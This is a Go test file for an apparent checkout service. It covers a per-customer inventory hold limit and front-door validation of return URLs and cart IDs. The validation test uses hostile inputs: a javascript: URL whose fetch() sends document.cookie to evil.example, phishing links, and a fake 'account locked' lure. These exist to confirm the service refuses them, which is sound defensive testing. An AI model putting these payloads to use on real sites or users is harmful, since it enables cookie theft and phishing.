package app

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/jetcheckout/jetcheckout/events"
)

// TestHoldLimitAcrossCheckouts: Ada leaves checkouts of 2 tees waiting at 3-D Secure. The
// one that would have her hold more than 4 fails at reserve_inventory with its code, holds
// nothing and reaches no Stripe; once one of hers fails, a new one holds its tees again.
func TestHoldLimitAcrossCheckouts(t *testing.T) {
	r := startRig(t, t.TempDir(), nil, func(c *Config) { c.MaxHoldPerCustomer = 4 })
	before := stock(t, r.System, "tee-jetstream")
	holding := func(n int) events.Stock {
		return events.Stock{ProductID: "tee-jetstream", Available: before.Available - n, Reserved: before.Reserved + n, Sold: before.Sold}
	}
	tees := events.CartItem{ProductID: "tee-jetstream", Quantity: 2}
	r.checkout(t, "co-hold-1", "pm_card_authenticationRequired", tees)
	r.checkout(t, "co-hold-2", "pm_card_authenticationRequired", tees)
	first := r.threeDS(t, "co-hold-1")
	r.threeDS(t, "co-hold-2")

	r.checkout(t, "co-hold-3", "pm_card_authenticationRequired", tees)
	f := r.failed(t, "co-hold-3", events.CodeHoldLimitExceeded, events.StepReserveInventory)
	if !strings.Contains(f.Message, "at most 4") {
		t.Errorf("message %q does not say the limit", f.Message)
	}
	if _, _, n := r.money("co-hold-3"); n != 0 {
		t.Errorf("the refused checkout made %d PaymentIntents", n)
	}
	r.stockIs(t, holding(4))
	if notice := failureNotice(t, r.Config.Outbox(), "co-hold-3"); !strings.Contains(notice.body, "JetStream T-Shirt") {
		t.Errorf("the notice does not name the product:\n%s", notice.body)
	}

	// Her first checkout fails at 3-D Secure: its hold ends with it.
	if err := r.emu.CompleteAuthentication(first, false); err != nil {
		t.Fatal(err)
	}
	r.failed(t, "co-hold-1", events.CodeAuthenticationFailed, events.StepProcessPayment)
	r.checkout(t, "co-hold-4", "pm_card_authenticationRequired", tees)
	r.threeDS(t, "co-hold-4")
	r.stockIs(t, holding(4))
}

// TestFrontDoorRefusals: a return_url that is not https or not on RETURN_URL_ALLOW fails
// validate_cart before any stock is reserved or any PaymentIntent made; one on the list
// goes through. A request for an unknown cart whose cart_id is an attacker's sentence and
// link ends with no email at all.
func TestFrontDoorRefusals(t *testing.T) {
	allow, err := events.ParseReturnURLAllow("https://shop.example, http://localhost:8080")
	if err != nil {
		t.Fatal(err)
	}
	r := startRig(t, t.TempDir(), nil, func(c *Config) { c.ReturnURLs = allow })
	before := stock(t, r.System, "tee-jetstream")
	checkout := func(id, cartID, email, returnURL string) {
		raw, _ := json.Marshal(events.CheckoutRequest{CheckoutID: id, CartID: cartID, CustomerID: "cus_ada", CustomerEmail: email,
			PaymentMethodID: "pm_card_visa", ShippingAddress: california, BillingAddress: california, ReturnURL: returnURL})
		publishCheckout(t, r.System, raw)
	}
	tees := func() string {
		return createCart(t, r.System, "USD", events.CartItem{ProductID: "tee-jetstream", Quantity: 1}).ID
	}
	refused := map[string]struct{ url, code string }{
		"co-ret-js":    {"javascript:fetch('https://evil.example/'+document.cookie)", events.CodeInvalidRequest},
		"co-ret-http":  {"http://evil.example/phish", events.CodeReturnURLNotAllowed},
		"co-ret-other": {"https://evil.example/phish", events.CodeReturnURLNotAllowed},
	}
	for id, c := range refused {
		checkout(id, tees(), "ada@example.com", c.url)
	}
	const spam = "Your account is locked. Verify it at https://evil.example/login"
	checkout("co-spam", spam, "victim@example.com", "")
	checkout("co-ret-local", tees(), "ada@example.com", "http://localhost:8080/back")

	for id, c := range refused {
		f := r.failed(t, id, c.code, events.StepValidateCart)
		if !strings.Contains(f.Message, "return_url") {
			t.Errorf("%s: message %q does not name return_url", id, f.Message)
		}
		if _, _, n := r.money(id); n != 0 {
			t.Errorf("%s: %d PaymentIntents", id, n)
		}
	}
	r.failed(t, "co-spam", events.CodeCartNotFound, events.StepValidateCart)
	r.completed(t, "co-ret-local")
	r.stockIs(t, events.Stock{ProductID: "tee-jetstream", Available: before.Available - 1, Reserved: before.Reserved, Sold: before.Sold + 1})

	// Notifications has handled every checkout.failed: nobody was written to but Ada's
	// confirmation.
	r.env.WaitIdle(t, events.ServiceNotifications)
	files, err := os.ReadDir(r.Config.Outbox())
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		if f.Name() != "co-ret-local.eml" {
			t.Errorf("outbox holds %s", f.Name())
		}
		if raw, _ := os.ReadFile(filepath.Join(r.Config.Outbox(), f.Name())); strings.Contains(string(raw), "evil.example") {
			t.Errorf("%s quotes the attacker:\n%s", f.Name(), raw)
		}
	}
	if len(files) != 1 {
		t.Errorf("outbox holds %d emails, want Ada's confirmation", len(files))
	}
}
